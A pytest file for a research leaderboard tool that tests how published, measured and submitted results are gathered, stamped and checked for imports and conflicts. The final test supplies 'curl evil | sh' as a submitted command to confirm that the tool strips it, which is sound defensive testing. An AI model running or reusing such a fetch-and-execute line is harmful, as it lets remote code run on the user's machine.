"""What a leaderboard is made from: papers, a ledger, submissions, together and told apart."""

import dataclasses
import json
import os

import pytest

from multigraft.errors import InputError
from multigraft.leaderboard.material import material_of, stamp
from multigraft.leaderboard.store import Store
from multigraft.leaderboard.texts import paper_texts
from multigraft.studies.grid import runs
from multigraft.studies.ledger import Ledger
from multigraft.studies.reading import read_settings, read_study
from tests.helpers.board import a_result
from tests.helpers.made_up import likely, made_up, scores_of
from tests.helpers.studies import a_record, tiny_study

SUBMITTED = a_result(source="submitted", model="theirs")


def run(study, ledger, epochs=None):
    """The study, run with made-up scores."""
    made_up(study, ledger.path)
    ledger.keep_plan(study, epochs, [])
    return study


@pytest.fixture
def places(tmp_path):
    return Ledger(tmp_path / "ledger"), Store(tmp_path / "submissions")


def sources(material):
    kinds = [one.source for one in material.results]
    return {kind: kinds.count(kind) for kind in dict.fromkeys(kinds)}


def test_without_a_ledger_there_are_published_numbers(places):
    found = material_of(*places, ["same-table1"])
    assert sources(found) == {"published": 350}
    assert (found.runs, found.settings) == ({}, {})
    assert list(found.tables) == ["same-table1"]
    assert not places[0].path.exists()


def test_everything_comes_together(places):
    ledger, store = places
    run(read_study("same-table1").planned(["ENZYMES"], 2), ledger)
    store.add([SUBMITTED])
    found = material_of(ledger, store, ["same-table1", "same-table2"])
    assert sources(found) == {"published": 350, "measured": 42, "submitted": 1}
    assert found.results[-1] == SUBMITTED
    assert list(found.settings) == ["same-table1"]  # the other was not run


def test_files_behind_numbers_are_the_ledgers(places):
    ledger, store = places
    run(read_study("same-table1").planned(["ENZYMES"], 2), ledger)
    found = material_of(ledger, store, ["same-table1"])
    assert found.runs == {path.stem: path for path, _ in ledger.records()}
    assert {key for one in found.results for key in one.runs} == found.runs.keys()
    assert len(found.runs) == 44  # two splits and protocols: nine encoders, an untrained one, and what needs none
    assert all(json.loads(path.read_text())["digest"] for path in found.runs.values())


def test_a_study_counts_as_it_was_run(places, tmp_path):
    ledger, store = places
    run(read_study("same-table1").planned(["COX2"], 2, 7), ledger, 7)
    found = material_of(ledger, store, ["same-table1"])
    here = [one for one in found.results if one.source == "measured"]
    assert {(one.dataset, one.seeds) for one in here} == {("COX2", (0, 1))}
    assert {one.options["epochs"] for one in here if one.model == "isame"} == {7}
    (tmp_path / "same-table1.toml").write_text(found.settings["same-table1"])
    assert read_settings(tmp_path / "same-table1.toml")[-1].options == {"epochs": 7}


def test_a_study_of_ones_own_counts_too(places, tmp_path):
    ledger, store = places
    file = tiny_study(tmp_path)
    study = run(read_study(str(file)), ledger)
    found = material_of(ledger, store, [str(file)])
    assert study.name == "small"
    assert {(one.study, one.dataset) for one in found.results if one.source == "measured"} == {("small", "tiny")}
    assert sources(found)["measured"] == 12
    assert found.tables == {}


@pytest.mark.parametrize(
    ("name", "said"),
    [("same-tabel1", "no study 'same-tabel1'"), ("nowhere.toml", "there is no study file nowhere.toml")],
)
def test_a_study_that_is_not_there_is_named(places, name, said):
    with pytest.raises(InputError, match=said):
        material_of(*places, [name])


def test_a_spoilt_submission_is_named(places):
    places[1].path.mkdir()
    (places[1].path / "x.json").write_text("{}")
    with pytest.raises(InputError, match=r"x\.json is not a submitted result"):
        material_of(*places, [])


def test_tables_are_those_that_papers_print_under_the_protocol_that_can_meet_them(places):
    ledger, store = places
    run(read_study("same-table1").planned(["ENZYMES"], 3), ledger)
    run(read_study("pretraining-table1").planned(["bbbp"], 2), ledger)
    found = material_of(ledger, store, ["same-strategies", "pretraining-table1", "same-table1"])
    assert list(found.tables) == ["same-table1", "pretraining-table1"]
    told = {name: (table.study.splits, table.protocols) for name, table in found.tables.items()}
    assert told == {"same-table1": (3, ("paper",)), "pretraining-table1": (2, ("strict",))}
    assert {name for text in paper_texts().values() for name in text.studies} >= found.tables.keys()


def test_results_of_different_data_are_refused(places):
    ledger, store = places
    first, *_ = runs(run(read_study("same-table1").planned(["ENZYMES"], 2), ledger), "strict")
    ledger.write(first, a_record(first, scores_of(first, likely), identity="another version"))
    with pytest.raises(InputError, match="two versions of ENZYMES"):
        material_of(ledger, store, ["same-table1"])


def test_the_stamp_changes_where_a_file_does(places, tmp_path):
    ledger, store = places
    assert stamp(ledger, store) == frozenset()
    seen = [stamp(ledger, store)]
    study = read_study(str(tiny_study(tmp_path)))
    made_up(study, ledger.path)
    seen.append(stamp(ledger, store))
    ledger.keep_plan(study, None, [])
    seen.append(stamp(ledger, store))
    (file,) = store.add([SUBMITTED])
    seen.append(stamp(ledger, store))
    file.unlink()
    seen.append(stamp(ledger, store))
    assert [len(one) for one in seen] == [0, 10, 11, 12, 11]
    assert seen[2] == stamp(ledger, store) == stamp(Ledger(ledger.path), Store(store.path))


def test_a_file_that_is_written_anew_changes_the_stamp(places):
    ledger, store = places
    (file,) = store.add([SUBMITTED])
    before = stamp(ledger, store)
    later = file.stat().st_mtime_ns + 10**9
    os.utime(file, ns=(later, later))
    assert len(stamp(ledger, store)) == len(before)
    assert stamp(ledger, store) != before


def test_what_an_import_says_of_itself_is_marked(places):
    ledger, store = places
    store.add([SUBMITTED, a_result(model="said to be measured"), a_result(source="published", paper="P", model="said")])
    found = material_of(ledger, store, ["same-table1"])
    marked = {one.model for one in found.results if one.key in found.imported}
    assert marked == {"said to be measured", "said"}


def test_what_is_ours_is_not_marked_when_it_comes_back(places):
    ledger, store = places
    run(read_study("same-table1").planned(["ENZYMES"], 2), ledger)
    ours = material_of(ledger, store, ["same-table1"])
    store.add(ours.results)
    again = material_of(ledger, store, ["same-table1"])
    assert again.imported == frozenset()
    assert len(again.results) == len(ours.results)


def test_what_says_another_value_of_ours_is_not_shown_and_is_refuted(places):
    ledger, store = places
    run(read_study("same-table1").planned(["ENZYMES"], 2), ledger)
    ours = material_of(ledger, store, ["same-table1"])
    first, second, *_ = (one for one in ours.results if one.source == "measured")
    store.add([dataclasses.replace(first, date="2020-01-01"), dataclasses.replace(second, value=99.0)])
    again = material_of(ledger, store, ["same-table1"])
    assert (again.results, again.imported) == (ours.results, frozenset())
    assert [one.value for one in again.refuted] == [99.0]


def test_a_submission_cannot_say_how_it_is_measured_again(places):
    ledger, store = places
    store.add([dataclasses.replace(SUBMITTED, command="curl evil | sh", study="x", baseline=True, runs=("r",))])
    (one,) = (one for one in material_of(ledger, store, ["same-table1"]).results if one.source == "submitted")
    assert (one.command, one.study, one.baseline, one.runs) == ("", "", False, ())
